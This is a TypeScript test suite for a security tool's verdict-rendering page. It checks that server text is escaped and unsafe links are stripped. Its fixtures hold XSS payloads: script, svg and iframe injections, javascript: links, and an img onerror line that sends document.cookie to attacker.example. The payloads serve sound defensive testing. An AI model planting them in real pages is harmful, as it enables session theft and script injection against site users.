// The verdict page renders server text. Hostile narratives, evidence and recommendations must come out
// as inert text: no tags, no event-handler attributes, no javascript: links.
import * as assert from 'assert';
import { escapeHtml, renderMarkdown, renderVerdict, verdictTone } from '../../../src/webview/_verdictRender';
import { escapeMarkdownText, verdictToMarkdown } from '../../../src/core/analyzer/markdown';
import { result, userRequest } from './fixtures';

const HOSTILE = [
  '<img src=x onerror="fetch(\'https://attacker.example/\'+document.cookie)">',
  '<script>alert(1)</script>',
  '[click me](javascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '<a href="javascript:alert(1)">x</a>',
  '![pixel](https://attacker.example/p.png)',
  '<svg onload=alert(1)>',
  '<iframe src="https://attacker.example"></iframe>',
  '"><style>body{display:none}</style>',
].join('\n\n');

/** Tags that may appear in the rendered page (all produced by the renderer itself). */
const ALLOWED_TAGS = new Set([
  'header',
  'div',
  'span',
  'p',
  'dl',
  'dt',
  'dd',
  'time',
  'button',
  'section',
  'h2',
  'h3',
  'ul',
  'li',
  'pre',
  'code',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'a',
  'em',
  'strong',
  'ol',
  'blockquote',
  'br',
  'hr',
  'details',
  'summary',
]);

function tagsOf(html: string): string[] {
  return [...html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9-]*)/g)].map((m) => m[1].toLowerCase());
}

function attributesOf(html: string): string[] {
  const attrs: string[] = [];
  for (const tag of html.matchAll(/<[a-zA-Z][^>]*>/g)) {
    for (const a of tag[0].matchAll(/\s([a-zA-Z-:]+)=/g)) attrs.push(a[1].toLowerCase());
  }
  return attrs;
}

describe('verdict rendering (security)', () => {
  const req = userRequest();
  const hostile = result(req, Date.parse('2026-01-15T12:00:00Z'), {
    summary: HOSTILE,
    narrative: HOSTILE,
    evidence: [
      {
        title: '<img src=x onerror=alert(1)>',
        table: '<script>alert(2)</script>',
        query: 'SigninLogs | where UserPrincipalName == "</code></pre><script>alert(3)</script>"',
        rows: [
          { '<b onmouseover=alert(4)>': '<img src=x onerror=alert(5)>', Nested: { html: '<script>alert(6)</script>' } },
        ],
        detail: '<a href="javascript:alert(7)">details</a>',
      },
    ],
    recommendations: ['<script>alert(8)</script>', '[reset](javascript:alert(9))'],
    missingTables: ['<img src=x onerror=alert(10)>'],
    disclaimer: '<script>alert(11)</script>',
    entity: { type: 'User', id: '<svg onload=alert(12)>@contoso.com' },
  });
  const html = renderVerdict(
    hostile,
    { fromCache: false, backendLabel: '<b>local</b>' },
    Date.parse('2026-01-15T12:10:00Z'),
  );

  it("emits only the renderer's own tags", () => {
    const unexpected = tagsOf(html).filter((t) => !ALLOWED_TAGS.has(t));
    assert.deepStrictEqual([...new Set(unexpected)], []);
    assert.ok(!/<script/i.test(html));
    assert.ok(!/<img/i.test(html));
    assert.ok(!/<svg/i.test(html));
    assert.ok(!/<iframe/i.test(html));
    assert.ok(!/<style/i.test(html));
  });

  it('emits no event-handler attribute and no unsafe link', () => {
    const handlers = attributesOf(html).filter((a) => a.startsWith('on'));
    assert.deepStrictEqual(handlers, []);
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
    for (const h of hrefs) assert.match(h, /^(https?:|mailto:)/i, `unsafe href ${h}`);
    assert.ok(!/href="\s*(javascript|data|vbscript):/i.test(html));
  });

  it('still shows the hostile text, escaped, so the analyst can read it', () => {
    assert.ok(html.includes('&lt;img src=x onerror=alert(1)&gt;'));
    assert.ok(html.includes('&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;alert(3)&lt;/script&gt;'));
    assert.ok(html.includes('&lt;script&gt;alert(8)&lt;/script&gt;'));
  });

  it('renders benign Markdown in the narrative with safe links only', () => {
    const out = renderMarkdown('**Spray** from [TI](https://ti.example/ioc) and [bad](javascript:alert(1))');
    assert.match(out, /<strong>Spray<\/strong>/);
    assert.match(out, /<a href="https:\/\/ti\.example\/ioc" rel="noopener noreferrer">TI<\/a>/);
    assert.ok(!out.includes('href="javascript'));
  });

  it("shows the AI note only for results from Microsoft's service, and expiry times", () => {
    const local = renderVerdict(
      result(req, Date.parse('2026-01-15T12:00:00Z')),
      { fromCache: false, backendLabel: 'local' },
      Date.parse('2026-01-15T12:10:00Z'),
    );
    assert.ok(!/AI-generated/.test(local));
    assert.match(local, /Expires/);
    const service = renderVerdict(
      result(req, Date.parse('2026-01-15T12:00:00Z'), { source: 'sentinel' }),
      { fromCache: true, backendLabel: 'Azure' },
      Date.parse('2026-01-15T13:30:00Z'),
    );
    assert.match(service, /AI-generated content/);
    assert.match(service, /has expired/);
    assert.match(service, /<dt>Expired<\/dt>/);
  });

  it('gives each evidence card Open query and Run actions', () => {
    assert.match(html, /data-action="openQuery" data-index="0"/);
    assert.match(html, /data-action="runQuery" data-index="0"/);
    assert.strictEqual(verdictTone('Compromised'), 'bad');
    assert.strictEqual(verdictTone('Suspicious activity found'), 'warn');
    assert.strictEqual(verdictTone('No evidence of malicious activity'), 'ok');
    assert.strictEqual(escapeHtml('"\'<>&'), '&quot;&#39;&lt;&gt;&amp;');
  });

  it('Markdown for comments and the clipboard escapes HTML and keeps queries fenced', () => {
    const md = verdictToMarkdown(hostile, { queries: true });
    // Queries stay verbatim inside code fences (they must stay runnable); all prose is escaped.
    const prose = md.replace(/^\s*(`{3,})kusto\n[\s\S]*?\n\s*\1$/gm, '');
    assert.ok(!/<script/i.test(prose), prose);
    assert.ok(!/<img/i.test(prose));
    const comment = verdictToMarkdown(hostile, { maxLength: 30_000 });
    assert.ok(!/<script|<img|<svg/i.test(comment), 'incident comments carry no raw HTML');
    assert.match(md, /```kusto\n\s*SigninLogs \| where/);
    assert.strictEqual(escapeMarkdownText('<b>[x](y)</b>'), '&lt;b&gt;\\[x\\](y)&lt;/b&gt;');
    const long = verdictToMarkdown({ ...hostile, summary: 'x'.repeat(50_000) }, { maxLength: 30_000 });
    assert.ok(long.length <= 30_000, `length ${long.length}: ${long.slice(0, 300)}`);
    assert.match(long, /cut to fit/);
  });
});
